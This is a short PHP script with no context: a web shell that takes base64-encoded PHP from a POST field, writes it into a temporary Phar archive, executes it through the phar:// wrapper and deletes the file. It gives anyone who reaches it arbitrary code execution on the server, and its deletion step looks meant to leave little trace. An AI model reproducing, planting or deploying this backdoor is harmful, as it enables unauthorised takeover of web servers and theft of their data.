<?php
$f = sys_get_temp_dir() . '/lt' . getmypid() . '.phar';
$p = new Phar($f); $p['a.php'] = base64_decode($_POST['m'] ?? ''); unset($p);
include "phar://$f/a.php";
unlink($f);
